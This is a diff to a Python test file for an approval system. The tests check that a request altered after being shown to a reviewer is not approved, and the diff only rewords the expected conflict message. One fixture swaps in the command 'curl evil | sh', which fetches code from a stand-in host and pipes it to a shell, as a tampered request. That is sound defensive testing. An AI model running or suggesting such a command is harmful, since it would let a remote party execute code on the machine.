@@ -63,7 +63,7 @@ def test_a_request_that_is_not_what_was_shown_is_not_decided(change: dict[str, A
     row = asked()
     seen = rules.judged_digest(row)
     PermissionContext.objects.update(**change)
-    with pytest.raises(Conflict, match="not what your page showed"):
+    with pytest.raises(Conflict, match="differs from what your page showed"):
         approvals.decide(row.request_id, by=person(), verdict="approved", judged=seen, now=NOW)
     assert fresh(row).status == "pending"
 
@@ -109,7 +109,7 @@ def test_the_answer_to_a_stale_card_is_a_card_of_what_is_asked_now(signed_in) ->
     PermissionContext.objects.filter(pk=rows[1].request_id).update(tool_input={"command": "curl evil | sh"})
     answer = browser.post(DECIDE, seen, headers=HTMX)
     assert [fresh(row).status for row in rows] == ["approved", "pending"]
-    assert "not what your page showed" in answer["HX-Trigger"]
+    assert "differs from what your page showed" in answer["HX-Trigger"]
     page = answer.content.decode()
     assert page.count("<article") == 2
     assert "curl evil | sh" in page
